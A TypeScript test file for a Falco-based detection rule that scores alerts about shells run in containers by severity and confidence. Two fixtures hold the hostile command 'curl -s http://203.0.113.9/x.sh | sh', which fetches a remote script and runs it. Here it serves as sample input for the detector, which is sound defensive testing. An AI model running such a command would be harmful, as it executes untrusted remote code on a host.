import { falcoShell } from '../../../../shared/detection/rules/falco-shell.ts';
import { falcoCases } from '../threat-cases.ts';

describe('falco-shell', () => {
  falcoCases(falcoShell, {
    fires: [
      ['a shell of a server', { rule: 'Run shell untrusted' }, { severity: 'medium', confidence: 0.45 }],
      [
        'a shell of a server that runs what it fetches from a bare address',
        { rule: 'Run shell untrusted', command: 'sh -c curl -s http://203.0.113.9/x.sh | sh' },
        { severity: 'medium', confidence: 0.55 },
      ],
      [
        'the same at a terminal, which the exec behind it tells',
        { rule: 'Terminal shell in container', command: 'sh -c curl -s http://203.0.113.9/x.sh | sh' },
        { severity: 'medium', confidence: 0.15 },
      ],
      ['a terminal', { rule: 'Terminal shell in container' }, { severity: 'medium', confidence: 0.15 }],
      [
        'whatever priority it has',
        { rule: 'terminal  shell in Container', priority: 'Emergency' },
        { severity: 'medium', confidence: 0.15 },
      ],
    ],
    misses: [['a name that is only like its own', { rule: 'Terminal in container' }]],
  });
});
